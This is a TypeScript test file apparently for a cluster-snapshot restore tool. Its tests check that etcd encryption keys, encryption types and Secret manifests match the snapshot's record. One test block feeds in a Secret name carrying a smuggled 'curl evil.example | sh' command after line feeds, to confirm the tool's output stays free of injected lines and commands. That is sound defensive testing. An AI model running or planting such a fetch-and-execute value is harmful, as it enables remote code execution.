import { describe, expect, test } from "vitest";
import type { EncryptionEntry } from "../../../src/snapshots/record.ts";
import { checkEncryption, checkUnrecordedKeys } from "../../../src/restore/encryption-key.ts";
import { collect } from "../../../src/restore/findings.ts";
import { findKeySecret } from "../../../src/restore/key-secret.ts";
import { parseManifest } from "../../../src/restore/manifest.ts";
import { readTargetCluster } from "../../../src/restore/target-cluster.ts";
import { refusalsOf, warningsOf } from "./expectations.ts";
import { aescbc, buildManifest, buildSecret, newKey, oldKey, type ManifestParts } from "./manifest-builder.ts";
import { fingerprint, oldEncryption } from "./record-builder.ts";

function check(encryption: EncryptionEntry, manifest: string, ...given: readonly Buffer[]) {
  const documents = parseManifest(Buffer.from(manifest));
  return checkEncryption(encryption, documents, readTargetCluster(documents), given);
}

function refusals(encryption: EncryptionEntry, manifest: string, ...given: readonly Buffer[]) {
  return refusalsOf(collect("encryption", () => check(encryption, manifest, ...given).findings));
}

const kms = ["  secretEncryption:", "    kms:", "      provider: AWS", "    type: kms"];
const withOldKey = buildSecret(["data:", `  key: ${oldKey.toString("base64")}`]);

describe("the key of the snapshot is taken", () => {
  test.each<[string, ManifestParts, Buffer | undefined, string]>([
    ["from the input, for a Secret with another one", {}, oldKey, "tenant-etcd-encryption-key"],
    ["from the input, for a Secret that is not there", { secret: null }, oldKey, "tenant-etcd-encryption-key"],
    ["from the manifest, which has it already", { secret: withOldKey }, undefined, "tenant-etcd-encryption-key"],
    [
      "from the manifest's stringData",
      { secret: buildSecret(["stringData:", `  key: ${oldKey.toString()}`]) },
      undefined,
      "tenant-etcd-encryption-key",
    ],
    ["under the name that the manifest gives", { encryption: aescbc("my-key"), secret: null }, oldKey, "my-key"],
    [
      "under HyperShift's own name where the manifest gives none",
      { encryption: ["  secretEncryption:", "    aescbc:", "    type: aescbc"] },
      oldKey,
      "tenant-etcd-encryption-key",
    ],
  ])("%s", (_, parts, given, secretName) => {
    const { findings, keys } = check(oldEncryption, buildManifest(parts), ...(given === undefined ? [] : [given]));
    expect(keys).toEqual([{ role: "active", secretName, key: oldKey }]);
    expect(findings.map(({ verdict }) => verdict)).toEqual(["equal"]);
  });

  test.each<[string, EncryptionEntry, ManifestParts, number]>([
    ["encrypted with KMS", { type: "kms" }, { encryption: kms, secret: null }, 1],
    [
      "encrypted with the same KMS key",
      { type: "kms", kms: { provider: "AWS" } },
      { encryption: kms, secret: null },
      1,
    ],
    [
      "encrypted with another KMS key",
      { type: "kms", kms: { provider: "IBMCloud" } },
      { encryption: kms, secret: null },
      2,
    ],
    ["in clear", { type: "none" }, { encryption: [], secret: null }, 0],
    ["in clear, for a cluster that encrypts", { type: "none" }, {}, 1],
    ["in clear, for a cluster that encrypts with a key that is missing", { type: "none" }, { secret: null }, 2],
  ])("not where the snapshot's Secrets are %s", (_, encryption, parts, warnings) => {
    const { findings, keys } = check(encryption, buildManifest(parts));
    expect(keys).toEqual([]);
    expect(refusalsOf(findings)).toEqual([]);
    expect(warningsOf(findings)).toHaveLength(warnings);
  });
});

describe("another key is refused", () => {
  const twoKeys: EncryptionEntry = {
    ...oldEncryption,
    keys: [fingerprint(oldKey, "active"), fingerprint(newKey, "backup")],
  };
  const withoutHash: EncryptionEntry = {
    ...oldEncryption,
    keys: [{ ...fingerprint(oldKey, "active"), sha256: "0".repeat(64) }],
  };
  const withoutName: EncryptionEntry = {
    ...oldEncryption,
    keys: [{ ...fingerprint(oldKey, "active"), name: "key-1" }],
  };

  test.each<[string, EncryptionEntry, ManifestParts, Buffer | undefined]>([
    ["given", oldEncryption, {}, newKey],
    ["given, beside the right one in the manifest", oldEncryption, { secret: withOldKey }, newKey],
    ["in the manifest", oldEncryption, {}, undefined],
    ["none at all", oldEncryption, { secret: null }, undefined],
    ["no base64 in the manifest", oldEncryption, { secret: buildSecret(["data:", "  key: no base64!"]) }, undefined],
    [
      "in stringData, which wins over the right one in data",
      oldEncryption,
      {
        secret: buildSecret([
          "data:",
          `  key: ${oldKey.toString("base64")}`,
          "stringData:",
          `  key: ${newKey.toString()}`,
        ]),
      },
      undefined,
    ],
    ...['""', "", "1"].map((value): [string, EncryptionEntry, ManifestParts, undefined] => [
      `nothing (${value}) in stringData, which wins over the right one in data`,
      oldEncryption,
      { secret: buildSecret(["data:", `  key: ${oldKey.toString("base64")}`, "stringData:", `  key: ${value}`]) },
      undefined,
    ]),
    [
      "the right one in another namespace",
      oldEncryption,
      { secret: withOldKey.replace("namespace: clusters", "namespace: other") },
      undefined,
    ],
    ["one whose SHA-256 is another", withoutHash, {}, oldKey],
    ["one whose name is another", withoutName, {}, oldKey],
    ["for a snapshot in clear", { type: "none" }, {}, oldKey],
    ["for a snapshot with KMS", { type: "kms" }, { encryption: kms }, oldKey],
    ["without the second key that values may still need", twoKeys, {}, oldKey],
  ])("%s", (_, encryption, parts, given) => {
    const codes = refusals(encryption, buildManifest(parts), ...(given === undefined ? [] : [given]));
    expect(codes).toEqual(["encryption-key-mismatch"]);
  });

  test("given, beside the right one", () => {
    expect(refusals(oldEncryption, buildManifest(), oldKey, newKey)).toEqual(["encryption-key-mismatch"]);
  });

  const withBackup = (name: string): readonly string[] =>
    aescbc("active").toSpliced(4, 0, "      backupKey:", `        name: ${name}`);

  test("not where the manifest brings the second key", () => {
    const manifest = buildManifest({ encryption: withBackup("tenant-etcd-encryption-key") });
    expect(check(twoKeys, manifest, oldKey).keys).toEqual([
      { role: "active", secretName: "active", key: oldKey },
      { role: "backup", secretName: "tenant-etcd-encryption-key", key: newKey },
    ]);
  });

  test("not where both are given, in any order", () => {
    const manifest = buildManifest({ encryption: withBackup("before"), secret: null });
    for (const given of [
      [oldKey, newKey],
      [newKey, oldKey],
    ])
      expect(check(twoKeys, manifest, ...given).keys).toEqual([
        { role: "active", secretName: "active", key: oldKey },
        { role: "backup", secretName: "before", key: newKey },
      ]);
  });

  test("backupKey that names the active key's Secret, which would throw the second key away", () => {
    const encryption = withBackup("active");
    const secret = buildSecret().replace("name: tenant-etcd-encryption-key", "name: active");
    for (const given of [[oldKey], [oldKey, newKey]])
      expect(refusals(twoKeys, buildManifest({ encryption, secret }), ...given)).toEqual(["manifest-unsuitable"]);
  });

  test("the same where HyperShift names the active key's Secret itself", () => {
    const encryption = withBackup("tenant-etcd-encryption-key").with(3, "        name: ");
    expect(refusals(twoKeys, buildManifest({ encryption }), oldKey, newKey)).toEqual(["manifest-unsuitable"]);
  });

  test.each([16, 24, 32])("not a key of %d bytes, which AES takes", (length) => {
    const key = Buffer.alloc(length, "k");
    const recorded: EncryptionEntry = { type: "aescbc", keys: [fingerprint(key, "active")] };
    expect(check(recorded, buildManifest(), key).keys).toMatchObject([{ key }]);
    const inManifest = buildSecret(["data:", `  key: ${key.toString("base64")}`]);
    expect(check(recorded, buildManifest({ secret: inManifest })).keys).toMatchObject([{ key }]);
  });
});

describe("another kind of encryption is refused", () => {
  test.each<[string, EncryptionEntry, readonly string[], Buffer | undefined]>([
    ["KMS for aescbc", oldEncryption, kms, oldKey],
    ["none for aescbc", oldEncryption, [], oldKey],
    ["aescbc for KMS", { type: "kms" }, aescbc("tenant-etcd-encryption-key"), undefined],
    ["none for KMS", { type: "kms" }, [], undefined],
    ["KMS for none", { type: "none" }, kms, undefined],
    ["what is not known for none", { type: "none" }, ["  secretEncryption:", "    type: vault"], undefined],
  ])("%s", (_, recorded, encryption, given) => {
    const codes = refusals(recorded, buildManifest({ encryption }), ...(given === undefined ? [] : [given]));
    expect(codes).toEqual(["encryption-type-mismatch"]);
  });
});

test("a record without the key's fingerprint is refused", () => {
  expect(refusals({ type: "aescbc" }, buildManifest(), oldKey)).toEqual(["record-invalid"]);
  const backupOnly: EncryptionEntry = { type: "aescbc", keys: [fingerprint(oldKey, "backup")] };
  expect(refusals(backupOnly, buildManifest(), oldKey)).toEqual(["record-invalid"]);
});

test.each([
  ["the Secret twice", buildManifest() + withOldKey],
  ["the Secret without a namespace", buildManifest({ secret: withOldKey.replace("  namespace: clusters\n", "") })],
  ["a Secret whose name is none", buildManifest({ encryption: aescbc('"a/b"') })],
])("a manifest with %s is refused", (_, manifest) => {
  expect(refusals(oldEncryption, manifest, oldKey)).toEqual(["manifest-unsuitable"]);
});

describe("for a snapshot without a record", () => {
  const unrecorded = (manifest: string, ...given: readonly Buffer[]) => {
    const documents = parseManifest(Buffer.from(manifest));
    return checkUnrecordedKeys(documents, readTargetCluster(documents), given);
  };

  test("the given key is taken, with a warning that it was compared with nothing", () => {
    const { findings, keys } = unrecorded(buildManifest(), oldKey);
    expect(keys).toMatchObject([{ role: "active", key: oldKey }]);
    expect(findings).toMatchObject([{ verdict: "warning" }]);
  });

  test.each<[string, string, readonly Buffer[], string]>([
    ["no key", buildManifest({ secret: null }), [], "encryption-key-mismatch"],
    [
      "a key for a cluster that does not encrypt",
      buildManifest({ encryption: [] }),
      [oldKey],
      "encryption-type-mismatch",
    ],
    ["a second key without backupKey", buildManifest(), [oldKey, newKey], "encryption-key-mismatch"],
  ])("%s is refused", (_, manifest, given, code) => {
    expect(refusalsOf(unrecorded(manifest, ...given).findings)).toEqual([code]);
  });
});

describe("line feeds in names make neither lines nor commands", () => {
  const evil = String.raw`"a\n\n  curl evil.example | sh"`;
  const shown = (findings: ReturnType<typeof check>["findings"]): readonly string[] =>
    findings.flatMap(({ text, hint = "" }) => [text, hint]);
  const withEvil = buildManifest({ encryption: aescbc(evil), secret: null });

  test.each<[string, EncryptionEntry]>([
    ["of the key's Secret", oldEncryption],
    ["of a Secret that is still to be made", { type: "none" }],
  ])("%s", (_, encryption) => {
    const findings = shown(check(encryption, withEvil).findings);
    expect(findings.join("")).not.toContain("\n");
    expect(findings.join("")).not.toContain("kubectl");
  });

  test("of KMS keys in a record", () => {
    const { findings } = check({ type: "kms", kms: { "arn\n": "a\n- b" } }, buildManifest({ encryption: kms }));
    expect(shown(findings).join("")).not.toContain("\n");
  });

  test("of Secrets in the manifest", () => {
    const twice = buildSecret().replace("tenant-etcd-encryption-key", evil);
    const documents = parseManifest(Buffer.from(buildManifest({ secret: `${twice}---\n${twice}` })));
    const find = (): unknown =>
      findKeySecret(documents, { namespace: "clusters", name: "a\n\n  curl evil.example | sh" });
    expect(find).toThrow(/^[^\n]*more than once$/);
  });
});

test("the key of another cluster is told with the cluster of the snapshot, and how its key is read", () => {
  const { findings } = check(oldEncryption, buildManifest({ secret: null }), newKey);
  const refusal = findings.find(({ verdict }) => verdict === "refused");
  expect(refusal?.text).toMatch(/another key than that of this snapshot of clusters\/tenant/);
  expect(JSON.stringify(refusal)).toContain("kubectl get secret tenant-etcd-encryption-key -n clusters");
});
